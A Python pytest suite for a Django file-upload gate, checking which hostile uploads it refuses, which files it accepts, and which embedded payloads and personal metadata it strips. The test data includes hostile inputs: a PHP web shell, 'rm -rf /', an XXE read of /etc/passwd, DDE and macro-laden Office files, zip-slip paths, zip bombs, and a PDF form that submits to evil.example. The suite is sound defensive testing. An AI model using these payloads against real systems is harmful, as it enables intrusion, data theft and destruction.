"""The upload gate by tables: what it refuses, what it accepts, and what it removes from what it accepts."""

import io
import struct
import zipfile

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name

from files.cleaners.limits import PDF_MAX_PAGES, ZIP_MAX_ENTRIES
from files.intake.accept import CleanFile, UploadRejected, accept_upload
from tests.files import sample_files as make
from tests.files.sample_files import CANARY, H264, TAGS

pytestmark = [pytest.mark.corpus, pytest.mark.usefixtures("no_temporary_file_is_left", "little_work")]
ZIP_TAIL = make.archive({"an.txt": b"giau"})
HTML = b"<!doctype html><script>alert(1)</script>"


def link_info(name, mode=0o120777):
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    info.create_system = 3
    return info


def overlapping():
    """Two directory entries that share one packed part."""
    data = make.archive({"a.txt": b"A" * 1000})
    start = data.index(b"PK\x01\x02")
    entry, end = data[start : data.index(b"PK\x05\x06")], data[data.index(b"PK\x05\x06") :]
    twin = entry.replace(b"a.txt", b"b.txt")
    end = end[:8] + struct.pack("<HHI", 2, 2, len(entry) * 2) + end[16:]
    return data[:start] + entry + twin + end


def encrypted_zip():
    data = bytearray(make.archive({"a.txt": b"bi mat"}))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def ole(*names):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"".join(name.encode("utf-16-le") for name in names) + bytes(600)


def nested_json(depth=200):
    return b"[" * depth + b"]" * depth


def wrong_crc():
    data = bytearray(make.picture("PNG"))
    data[-20] ^= 0xFF
    return bytes(data)


def wrong_zip_crc():
    data = bytearray(make.archive({"a.txt": b"noi dung " * 50}))
    data[14] ^= 0xFF
    data[data.index(b"PK\x01\x02") + 16] ^= 0xFF
    return bytes(data)


def zip_with_gap(hidden):
    """Bytes between the last member and the directory, which every unzip program ignores."""
    data = make.archive({"a.txt": b"x"})
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    moved = data[end : end + 16] + struct.pack("<I", start + len(hidden)) + data[end + 20 :]
    return data[:start] + hidden + data[start:end] + moved


def bad_pdf(edit=None, **options):
    return make.pdf(edit=edit, **options)


#: name → (profile, bytes or maker, file name, expected statuses)
HOSTILE = {
    # pictures
    "empty": ("image", b"", "a.jpg", {400}),
    "svg": ("image", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "a.svg", {415}),
    "svg named png": ("image", b'<?xml version="1.0"?><svg/>', "a.png", {415}),
    "svg behind a BOM": ("library", b"\xef\xbb\xbf  <svg/>", "a.txt", {415}),
    "svg in UTF-16": ("library", "\ufeff<svg/>".encode("utf-16-le"), "a.txt", {415}),
    "html named jpg": ("image", HTML, "a.jpg", {415}),
    "jpeg magic and noise": ("image", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 9, "a.jpg", {422}),
    "jpeg magic alone": ("image", b"\xff\xd8\xff", "a.jpg", {422}),
    "jpeg cut in the header": ("image", make.picture()[:200], "a.jpg", {422}),
    "jpeg cut in the scan": ("image", make.picture(size=(400, 400))[:-40], "a.jpg", {422}),
    "jpeg cut, library": ("library", make.picture(size=(400, 400))[:-40], "a.jpg", {422}),
    "png wrong crc": ("image", wrong_crc(), "a.png", {422}),
    "png wrong crc, library": ("library", wrong_crc(), "a.png", {422}),
    "png cut": ("image", make.picture("PNG")[:-14], "a.png", {422}),
    "png without pixels": ("image", b"\x89PNG\r\n\x1a\n", "a.png", {422}),
    "png bomb": ("image", make.png_bomb(), "a.png", {422}),
    "png bomb, library": ("library", make.png_bomb(), "a.png", {422}),
    "png unknown critical chunk": ("image", make.png_with(b"ABCD", b"x"), "a.png", {422}),
    "apng": ("image", lambda: make.animation("PNG"), "a.png", {422}),
    "gif": ("image", make.picture("GIF"), "a.gif", {415}),
    "animated gif": ("image", make.animation(), "a.gif", {415}),
    "gif bomb of frames": ("library", lambda: make.gif_of_equal_frames(60, (1000, 1000)), "a.gif", {422}),
    "gif cut": ("library", make.animation()[:-20], "a.gif", {422}),
    "animated webp": ("portrait", lambda: make.animation("WEBP"), "a.webp", {422}),
    "webp cut": ("image", make.picture("WEBP")[:-20], "a.webp", {422}),
    "avif cut": ("image", make.picture("AVIF")[:-60], "a.avif", {422}),
    "heic cut": ("image", make.picture("HEIF")[:-60], "a.heic", {422}),
    "heic magic": ("image", b"\x00\x00\x00\x18ftypheic" + bytes(200), "a.heic", {422}),
    "tiff": ("image", make.picture("TIFF"), "a.jpg", {415}),
    "bmp": ("evidence", make.picture("BMP"), "a.jpg", {415}),
    "pdf as picture": ("image", make.pdf(), "a.jpg", {415}),
    "clip as picture": ("evidence", lambda: make.media("mp4", *H264), "a.jpg", {415}),
    "picture as table": ("table", make.picture(), "a.xlsx", {415}),
    "too large": ("portrait", bytes(10 * 1024 * 1024 + 1), "a.jpg", {413}),
    # programs, scripts, playlists
    "exe": ("library", b"MZ\x90\x00" + bytes(200), "a.pdf", {415}),
    "elf": ("library", b"\x7fELF" + bytes(200), "a.mp4", {415}),
    "shell script": ("library", b"#!/bin/sh\nrm -rf /\n", "a.txt", {415}),
    "php": ("library", b"<?php system($_GET['c']);", "a.txt", {415}),
    "php by name": ("library", b"echo 1;", "a.php", {415}),
    "batch by name": ("library", b"del *.*\r\n", "chay.bat", {415}),
    "htaccess": ("library", b"AddType application/x-httpd-php .txt", "a.htaccess", {415}),
    "hls playlist": ("partner", b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n", "a.mp4", {415}),
    "concat script": ("library", b"ffconcat version 1.0\nfile /etc/passwd\n", "a.txt", {415}),
    "html": ("library", HTML, "a.txt", {415}),
    "any tag": ("library", b"<b onclick=alert(1)>chao</b>", "a.txt", {415}),
    "html after text": ("library", b"xin chao\n<script>alert(1)</script>", "a.txt", {415}),
    "xml": ("library", b'<?xml version="1.0"?><a/>', "a.txt", {415}),
    "rtf": ("library", b"{\\rtf1 x}", "a.txt", {415}),
    "rar": ("library", b"Rar!\x1a\x07\x01\x00" + bytes(50), "a.zip", {415}),
    "7z": ("library", b"7z\xbc\xaf'\x1c" + bytes(50), "a.zip", {415}),
    "gzip": ("library", b"\x1f\x8b\x08" + bytes(50), "a.zip", {415}),
    # text
    "nul": ("library", b"abc\x00def", "a.txt", {422}),
    "latin-1": ("library", "Cần Thơ é".encode()[:2] + b"\xe9\xe9", "a.txt", {415, 422}),
    "noise": ("library", bytes(range(128, 256)) * 20, "a.txt", {415, 422}),
    "vtt without its first line": ("library", b"00:00.000 --> 00:01.000\nchao", "a.vtt", {422}),
    "srt without numbers": ("library", b"xin chao", "a.srt", {422}),
    "bad json": ("library", b'{"a": }', "a.json", {422}),
    "deep json": ("library", nested_json(), "a.json", {422}),
    "json NaN": ("library", b'{"a": NaN}', "a.json", {422}),
    # pdf
    "pdf header only": ("library", b"%PDF-1.7\n", "a.pdf", {422}),
    "pdf of html": ("library", b"%PDF-1.7\n" + HTML + b"\n%%EOF", "a.pdf", {422}),
    "pdf cut": ("library", make.pdf(3)[:-200], "a.pdf", {422}),
    "pdf encrypted": ("library", bad_pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "a.pdf", {422}),
    "pdf locked": ("library", bad_pdf(encryption=pikepdf.Encryption(owner="a", user="")), "a.pdf", {422}),
    "pdf with too many pages": ("library", lambda: make.pdf(PDF_MAX_PAGES + 1), "a.pdf", {422}),
    # office
    "old doc": ("library", ole("WordDocument"), "a.doc", {415}),
    "encrypted docx": ("library", ole("EncryptedPackage"), "a.docx", {415}),
    "docm": ("library", make.office(parts={"word/vbaProject.bin": ole("VBA")}), "a.docx", {422}),
    "renamed macro": ("library", make.office(parts={"word/media/anh.png": ole("VBA")}), "a.docx", {422}),
    "macro type": (
        "library",
        make.office(content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "a.docx",
        {422},
    ),
    "activex": ("library", make.office(parts={"word/activeX/activeX1.xml": b"<x/>"}), "a.docx", {422}),
    "ole object": ("library", make.office(parts={"word/embeddings/oleObject1.bin": ole("Package")}), "a.docx", {422}),
    "program in pptx": ("library", make.office("pptx", {"ppt/media/x.wav": b"MZ" + bytes(99)}), "a.pptx", {422}),
    "pptx bomb": ("library", lambda: make.office("pptx", {"ppt/media/a.png": bytes(40_000_000)}), "a.pptx", {422}),
    "pptx bomb of a workbook": (
        "library",
        lambda: make.office("pptx", {"ppt/embeddings/a.xlsx": make.office("xlsx", {"xl/a.bin": bytes(40_000_000)})}),
        "a.pptx",
        {422},
    ),
    "pptx of 3000 parts": (
        "library",
        lambda: make.office("pptx", {f"ppt/slides/slide{n}.xml": b"<a/>" for n in range(3000)}),
        "a.pptx",
        {422},
    ),
    "html part": ("library", make.office(parts={"word/afchunk.html": HTML}), "a.docx", {422}),
    "template from elsewhere": (
        "library",
        make.office(
            parts={
                "word/_rels/settings.xml.rels": f"<Relationships>{make.external('attachedTemplate', 'http://evil/x.dotm')}</Relationships>".encode()
            }
        ),
        "a.docx",
        {422},
    ),
    "picture from elsewhere": (
        "library",
        make.office(relationships=make.external("image", "http://evil/a.png")),
        "a.docx",
        {422},
    ),
    "file link": (
        "library",
        make.office(relationships=make.external("hyperlink", "file:///C:/x.exe")),
        "a.docx",
        {422},
    ),
    "entities": (
        "library",
        make.office(main='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        "a.docx",
        {422},
    ),
    "dde": (
        "library",
        make.office(main='<w:d xmlns:w="w"><w:instrText>DDEAUTO c:\\x.exe</w:instrText></w:d>'),
        "a.docx",
        {422},
    ),
    "broken xml": ("library", make.office(main="<a><b></a>"), "a.docx", {422}),
    "docx without body": ("library", make.archive({"[Content_Types].xml": b"<Types/>"}), "a.docx", {422}),
    # zip
    "empty zip": ("library", make.archive({}), "a.zip", {400, 422}),
    "zip cut": ("library", make.archive({"a.txt": b"x" * 99})[:-10], "a.zip", {422}),
    "zip wrong crc": ("library", wrong_zip_crc(), "a.zip", {422}),
    "zip encrypted": ("library", encrypted_zip(), "a.zip", {422}),
    "zip slip": ("library", make.archive({"../../etc/x.txt": b"a"}), "a.zip", {422}),
    "zip absolute": ("library", make.archive({"/etc/x.txt": b"a"}), "a.zip", {422}),
    "zip backslash": ("library", make.archive({"..\\x.txt": b"a"}), "a.zip", {422}),
    "zip drive": ("library", make.archive({"C:x.txt": b"a"}), "a.zip", {422}),
    "zip symlink": ("library", make.archive([(link_info("a.txt"), b"/etc/passwd")]), "a.zip", {422}),
    "zip block device": ("library", make.archive([(link_info("a.txt", 0o060666), b"x")]), "a.zip", {422}),
    "zip of too many": (
        "library",
        lambda: make.archive({f"{n}.txt": b"x" for n in range(ZIP_MAX_ENTRIES + 1)}),
        "a.zip",
        {422},
    ),
    "zip bomb": ("library", lambda: make.archive({"a.txt": b" " * 30_000_000}), "a.zip", {422}),
    "zip in zip": ("library", make.archive({"b.zip": make.archive({"a.txt": b"x"})}), "a.zip", {422}),
    "zip overlapping": ("library", overlapping(), "a.zip", {422}),
    "zip device": ("library", make.archive({"a/CON.txt": b"a"}), "a.zip", {422}),
    "zip device folder": ("library", make.archive({"lpt1/a.txt": b"a"}), "a.zip", {422}),
    "zip that turns names around": ("library", make.archive({"anh\u202egpj.txt": b"a"}), "a.zip", {422}),
    "zip same name twice": ("library", make.archive([("a.txt", b"x"), ("a.txt", b"y")]), "a.zip", {422}),
    "zip dots inside": ("library", make.archive({"a/../../x.txt": b"a"}), "a.zip", {422}),
    "zip twins": ("library", make.archive([("A.txt", b"x"), ("a.txt", b"y")]), "a.zip", {422}),
    "zip with svg": ("library", make.archive({"a.svg": b"<svg/>"}), "a.zip", {422}),
    "zip with exe": ("library", make.archive({"doc.pdf": b"MZ" + bytes(99)}), "a.zip", {422}),
    "zip with script": ("library", make.archive({"a.js": b"alert(1)"}), "a.zip", {422}),
    "zip with cut picture": ("library", make.archive({"a.png": make.picture("PNG")[:-14]}), "a.zip", {422}),
    # clips and sound
    "clip cut": ("partner", lambda: make.media("mp4", *H264, "-movflags", "+faststart")[:-3000], "a.mp4", {422}),
    "clip without index": ("partner", lambda: make.media("mp4", *H264)[:-2500], "a.mp4", {422}),
    "clip magic": ("partner", b"\x00\x00\x00\x18ftypisom" + bytes(400), "a.mp4", {422}),
    "clip noise": (
        "partner",
        lambda: make.media("mp4", *H264, "-movflags", "+faststart")[:1500] + bytes(range(256)) * 60,
        "a.mp4",
        {422},
    ),
    "webm noise": ("partner", b"\x1aE\xdf\xa3" + bytes(range(256)) * 9, "a.webm", {422}),
    "mp3 of noise": ("library", b"ID3\x03\x00\x00\x00\x00\x00\x00" + bytes(range(256)) * 9, "a.mp3", {422}),
    "wav cut": ("library", make.sound()[:-100], "a.wav", {422}),
    "wav without samples": ("library", b"RIFF\x04\x00\x00\x00WAVE", "a.wav", {422}),
}

GOOD = {
    "jpeg": ("image", make.picture(), "image/jpeg"),
    "progressive jpeg": ("image", make.picture(progressive=True), "image/jpeg"),
    "grey jpeg": ("image", make.picture(mode="L"), "image/jpeg"),
    "cmyk jpeg": ("image", make.picture(mode="CMYK"), "image/jpeg"),
    "cmyk jpeg, library": ("library", make.picture(mode="CMYK"), "image/jpeg"),
    "jpeg with profile": ("image", make.picture(icc_profile=make.icc()), "image/jpeg"),
    "png": ("image", make.picture("PNG"), "image/png"),
    "16-bit png": ("image", make.picture("PNG", "I;16"), "image/png"),
    "palette png": ("image", make.picture("PNG", "P", transparency=0), "image/png"),
    "one-bit png": ("image", make.picture("PNG", "1"), "image/png"),
    "rgba png": ("image", make.picture("PNG", "RGBA"), "image/png"),
    "grey and alpha png": ("image", make.picture("PNG", "LA"), "image/png"),
    "interlaced-free png with text": ("image", make.png_text(), "image/png"),
    "webp": ("image", make.picture("WEBP"), "image/webp"),
    "lossless webp": ("library", make.picture("WEBP", "RGBA", lossless=True), "image/webp"),
    "avif": ("image", make.picture("AVIF"), "image/avif"),
    "heic": ("image", make.picture("HEIF"), "image/jpeg"),
    "heic from a phone": ("partner", make.picture("HEIF", exif=make.exif()), "image/jpeg"),
    "one pixel": ("evidence", make.picture(size=(1, 1)), "image/jpeg"),
    "gif, library": ("library", make.picture("GIF", "P"), "image/gif"),
    "animated gif, library": ("library", make.animation(), "image/gif"),
    "apng, library": ("library", lambda: make.animation("PNG"), "image/png"),
    "animated webp, library": ("library", lambda: make.animation("WEBP"), "image/webp"),
    "pdf": ("library", make.pdf(), "application/pdf"),
    "linearised pdf": ("library", make.pdf(3, linearize=True), "application/pdf"),
    "pdf with object streams": (
        "library",
        make.pdf(3, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "application/pdf",
    ),
    "pdf of 200 pages": ("library", lambda: make.pdf(PDF_MAX_PAGES), "application/pdf"),
    "pdf behind a line": ("library", b"\n" + make.pdf(), "application/pdf"),
    "docx": ("library", make.office(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "pptx": (
        "library",
        make.office("pptx"),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "xlsx": ("library", make.office("xlsx"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "docx with a chart's workbook": (
        "library",
        make.office(parts={"word/embeddings/so.xlsx": make.office("xlsx")}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "docx with a link": (
        "library",
        make.office(relationships=make.external("hyperlink", "https://baocantho.com.vn/")),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "text": ("library", "Không một mình\r\n".encode(), "text/plain"),
    "text with BOM": ("library", "\ufeffChào".encode(), "text/plain"),
    "text in UTF-16": ("library", "\ufeffChào cả nhà".encode("utf-16-le"), "text/plain"),
    "text in brackets": ("library", "[Cảnh 1] Lan mở máy.".encode(), "text/plain"),
    "khmer text": ("library", "កុំនៅម្នាក់ឯង".encode(), "text/plain"),
    "captions": ("library", "WEBVTT\n\n00:00.000 --> 00:01.000\nChào".encode(), "text/vtt"),
    "subtitles": ("library", "1\r\n00:00:00,000 --> 00:00:01,000\r\nChào\r\n".encode(), "application/x-subrip"),
    "json": ("library", make.as_json({"câu": ["một", 2]}), "application/json"),
    "zip": ("library", make.archive({"Áp phích/a4.pdf": make.pdf(), "đọc.txt": b"ok"}), "application/zip"),
    "mp4": ("partner", lambda: make.media("mp4", *H264), "video/mp4"),
    "mp4, index first": ("partner", lambda: make.media("mp4", *H264, "-movflags", "+faststart"), "video/mp4"),
    "upright mov": ("partner", make.turned, "video/mp4"),
    "silent clip": ("partner", lambda: make.media("mp4", *H264[:4], sound=False), "video/mp4"),
    "clip of uneven pace": (
        "partner",
        lambda: make.media("mp4", "-vf", "select='not(mod(n,3))+lt(n,4)'", "-fps_mode", "vfr", *H264),
        "video/mp4",
    ),
    "fragmented mp4": (
        "partner",
        lambda: make.media("mp4", *H264, "-movflags", "frag_keyframe+empty_moov"),
        "video/mp4",
    ),
    "hevc mov": (
        "partner",
        lambda: make.media(
            "mov",
            "-c:v",
            "libx265",
            "-x265-params",
            "log-level=none",
            "-tag:v",
            "hvc1",
            "-pix_fmt",
            "yuv420p",
            "-c:a",
            "aac",
        ),
        "video/mp4",
    ),
    "mov with raw sound": ("partner", lambda: make.media("mov", *H264[:4], "-c:a", "pcm_s16le"), "video/mp4"),
    "webm": ("partner", lambda: make.media("webm", "-c:v", "libvpx-vp9", "-c:a", "libopus"), "video/webm"),
    "mp3": ("library", make.mp3, "audio/mpeg"),
    "mp3 with a cover": ("library", make.id3_art, "audio/mpeg"),
    "m4a": ("library", lambda: make.media("m4a", "-c:a", "aac", *TAGS, image=False), "audio/mp4"),
    "wav": ("library", make.sound(), "audio/wav"),
}


#: Of these every byte stays: there is nothing to take out, and the library keeps what the press asked for.
UNTOUCHED = {
    "cmyk jpeg, library", "lossless webp", "gif, library", "animated gif, library", "pdf", "xlsx", "text", "zip", "wav",
}  # fmt: skip


def built(content):
    return content() if callable(content) else content


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_file_is_refused(case):
    profile, content, name, statuses = HOSTILE[case]
    with pytest.raises(UploadRejected) as refusal:
        accept_upload(profile, io.BytesIO(built(content)), name=name)
    assert refusal.value.status in statuses
    assert refusal.value.reason != "undecodable", "a cleaner fell over instead of saying no"
    sentence = refusal.value.messages[0]
    assert len(sentence) > 25 and "%(" not in sentence and sentence.rstrip(".”)")


@pytest.mark.parametrize("case", GOOD)
def test_good_file_comes_in(case):
    profile, content, media_type = GOOD[case]
    data = built(content)
    with accept_upload(
        profile,
        io.BytesIO(data),
        name="Không một mình.bin" if media_type[:4] not in {"text", "appl"} else "Không một mình",
    ) as accepted:
        assert accepted.media_type == media_type
        assert accepted.display_name == f"Không một mình.{accepted.extension}"
        cleaned = accepted.file.read()
        assert accepted.size == len(cleaned) > 0
        if case in UNTOUCHED:
            assert cleaned == data and accepted.sha256 == accepted.original_sha256
        assert accepted.scan == "not_scanned"


#: Bytes that must be gone from what is stored.
APPENDICES = {
    "jpeg + zip": ("library", make.picture() + ZIP_TAIL, b"PK\x03\x04"),
    "jpeg + html": ("image", make.picture() + HTML, b"<script"),
    "png + zip": ("library", make.picture("PNG") + ZIP_TAIL, b"PK\x03\x04"),
    "png + html in text": ("library", make.png_with(b"tEXt", b"Comment\x00" + HTML), b"<script"),
    "gif + html": ("library", make.animation() + HTML, b"<script"),
    "webp + zip": ("library", make.picture("WEBP") + ZIP_TAIL, b"PK\x03\x04"),
    "avif + zip": ("library", make.picture("AVIF") + ZIP_TAIL, b"PK\x03\x04"),
    "pdf + zip": ("library", make.pdf() + ZIP_TAIL, b"PK\x03\x04"),
    "pdf + html": ("library", make.pdf() + HTML, b"<script"),
    "html in pdf comment": ("library", make.pdf().replace(b"\n", b"\n%" + HTML + b"\n", 1), b"<script"),
    "html behind a pdf stream": ("library", make.pdf().replace(b"endstream", HTML + b"\nendstream", 1), b"<script"),
    "html in a pdf object": ("library", make.pdf().replace(b" obj\n", b" obj\n%" + HTML + b"\n", 1), b"<script"),
    "html between zip's entries": ("library", zip_with_gap(HTML), b"<script"),
    "mp4 + zip": ("library", lambda: make.media("mp4", *H264) + ZIP_TAIL, b"PK\x03\x04"),
    "mp3 + zip": ("library", lambda: make.mp3() + ZIP_TAIL, b"PK\x03\x04"),
    "wav + html": ("library", make.sound() + HTML, b"<script"),
    "address in the captions' stylesheet": (
        "library",
        b"WEBVTT\n\nSTYLE\n::cue { background: url(https://la.example/x) }\n\n00:00.000 --> 00:01.000\nNoi ra",
        b"la.example",
    ),
}


@pytest.mark.parametrize("case", APPENDICES)
def test_appendix_is_gone(case):
    profile, content, appendix = APPENDICES[case]
    with accept_upload(profile, io.BytesIO(built(content)), name="a") as accepted:
        assert appendix not in accepted.file.read()


def personal_pdf(document):
    document.docinfo["/Author"] = CANARY
    with document.open_metadata() as words:
        words["dc:creator"] = [CANARY]
    document.attachments["nhat-ky.txt"] = CANARY.encode()
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=CANARY)
    photo = document.make_stream(
        make.picture(exif=make.exif()),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=64,
        Height=48,
        BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB,
        Filter=Name.DCTDecode,
    )
    page = document.pages[0]
    page.Resources = Dictionary(XObject=Dictionary(Im0=photo))
    page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=CANARY))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 9, 9]), T=CANARY, Contents=CANARY)
    run = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=Name.Launch, F=CANARY)
    )
    page.Annots = document.make_indirect(Array([document.make_indirect(note), document.make_indirect(run)]))


def acting_pdf(document):
    """Everything that runs or opens something, besides what personal_pdf has: XFA, RichMedia, GoToE, an open Launch."""
    form = document.make_stream(f"<xdp:xdp><script>{CANARY}</script></xdp:xdp>".encode())
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array(["template", form]))
    document.Root.OpenAction = Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P=CANARY))
    document.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=CANARY))
    document.Root.Names = Dictionary(
        JavaScript=Dictionary(
            Names=Array(["a", Dictionary(S=Name.JavaScript, JS=document.make_stream(CANARY.encode()))])
        ),
    )
    opens = Dictionary(S=Name.GoToE, F=CANARY, T=Dictionary(R=Name.C, N=CANARY))
    submits = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=f"https://evil.example/{CANARY}"))
    box = Array([0, 0, 9, 9])
    kinds = [
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=opens),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=submits),
        Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=box, A=Dictionary(S=Name.Rendition, JS=CANARY)),
        Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=box, RichMediaContent=Dictionary(X=CANARY)),
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=box, FS=Dictionary(F=CANARY)),
    ]
    document.pages[0].Annots = Array([document.make_indirect(kind) for kind in kinds])


#: Where else a PDF may hold a file, a program, the state of an editor or a person's name.
HIDING = {
    "page": "AF EF PieceInfo LastModified RichMediaSettings OPI Ref Thumb Metadata XFA JS JavaScript",
    "catalogue": "Collection Perms DSS Legal URI SpiderInfo NeedsRendering Threads Extensions",
    "names": "EmbeddedFiles AP Renditions Templates IDS URLS AlternatePresentations",
    "link": "PA Contents T NM M",
}


def hiding_pdf(document):
    link = document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9])))
    document.pages[0].Annots = Array([link])
    document.Root.Names = Dictionary()
    places = {"page": document.pages[0].obj, "catalogue": document.Root, "names": document.Root.Names, "link": link}
    for place, keys in HIDING.items():
        for key in keys.split():
            places[place][f"/{key}"] = Dictionary(X=CANARY)


#: Files that carry a name and a place; `b"GPS"`-like bytes are searched besides the canary.
PERSONAL = {
    "jpeg": ("image", make.picture(exif=make.exif(), comment=CANARY)),
    "jpeg, library": ("library", make.picture(exif=make.exif(), comment=CANARY)),
    "jpeg turned, library": ("library", make.picture(exif=make.exif(6))),
    "png": ("library", make.png_text()),
    "png with exif": ("image", make.picture("PNG", exif=make.exif())),
    "webp": ("library", make.picture("WEBP", exif=make.exif())),
    "avif": ("library", make.picture("AVIF", exif=make.exif())),
    "heic": ("image", make.picture("HEIF", exif=make.exif())),
    "heic, library": ("library", make.picture("HEIF", exif=make.exif())),
    "mp4 loci": ("partner", lambda: make.media("mp4", *H264, *TAGS)),
    "mov ©xyz": ("partner", make.turned),
    "mp4, library": ("library", lambda: make.media("mp4", *H264, *TAGS)),
    "mp3": ("library", make.mp3),
    "mp3 cover": ("library", make.id3_art),
    "m4a": ("library", lambda: make.media("m4a", "-c:a", "aac", *TAGS, image=False)),
    "pdf": ("library", lambda: make.pdf(edit=personal_pdf)),
    "pdf that hides": ("library", lambda: make.pdf(edit=hiding_pdf)),
    "pdf that acts": ("library", lambda: make.pdf(edit=acting_pdf)),
    "pdf that acts, as a document": ("document", lambda: make.pdf(edit=acting_pdf)),
    "pdf that acts, as a consent": ("consent_paper", lambda: make.pdf(edit=acting_pdf)),
    "docx": (
        "library",
        make.office(
            parts={"docProps/core.xml": make.core_properties(), "docProps/thumbnail.jpeg": make.picture(comment=CANARY)}
        ),
    ),
    "photo in docx": ("library", make.office(parts={"word/media/image1.jpg": make.picture(exif=make.exif())})),
    "photo in zip": ("library", make.archive({"anh.jpg": make.picture(exif=make.exif())})),
}


def all_bytes(data):
    """The file, and whatever it packs: streams of a PDF, members of a ZIP."""
    seen = [data]
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            seen += [archive.read(name) for name in archive.namelist()] + [name.encode() for name in archive.namelist()]
    if data.startswith(b"%PDF"):
        with pikepdf.open(io.BytesIO(data)) as document:
            for item in document.objects:
                seen.append(
                    item.unparse(resolved=True) if not isinstance(item, pikepdf.Stream) else item.read_raw_bytes()
                )
    return b"\n".join(seen)


@pytest.mark.parametrize("case", PERSONAL)
def test_name_and_place_are_gone(case):
    profile, content = PERSONAL[case]
    original = built(content)
    traces = (CANARY.encode(), b"+10.0328", make.exif()[-40:], "CANARY".encode("utf-16-le"))
    assert any(trace in all_bytes(original) for trace in traces), "the sample carries nothing to remove"
    with accept_upload(profile, io.BytesIO(original), name="a") as accepted:
        cleaned = all_bytes(accepted.file.read())
    for trace in (
        *traces,
        b"Exif\x00\x00II",
        b"\xa9xyz",
        b"loci",
        b"/JavaScript",
        b"/Launch",
        b"/EmbeddedFile",
        b"/XFA",
    ):
        assert trace not in cleaned


def test_facts_and_handles():
    upload = SimpleUploadedFile("Ảnh\u202egpj.exe\x00 lớp.JPEG", make.picture(size=(90, 60)))
    with accept_upload("image", upload) as accepted:
        assert (accepted.width, accepted.height, accepted.extension) == (90, 60, "jpg")
        assert accepted.display_name == "Ảnhgpj.exe lớp.jpg"
        assert accepted.original_sha256 != accepted.sha256
        clean = accepted.as_django_file()
        assert isinstance(clean, CleanFile) and clean.name.endswith(".jpg") and len(clean.name) == 40
        assert clean.size == accepted.size and clean.content_type == "image/jpeg"
    assert accepted.file.closed


def test_closed_upload_is_an_interrupted_one():
    upload = io.BytesIO(make.picture())
    upload.close()
    with pytest.raises(UploadRejected) as refusal:
        accept_upload("image", upload, name="a.jpg")
    assert refusal.value.status == 400


def test_unknown_profile_is_the_programmers_error():
    with pytest.raises(KeyError):
        accept_upload("anything", io.BytesIO(b"x"))
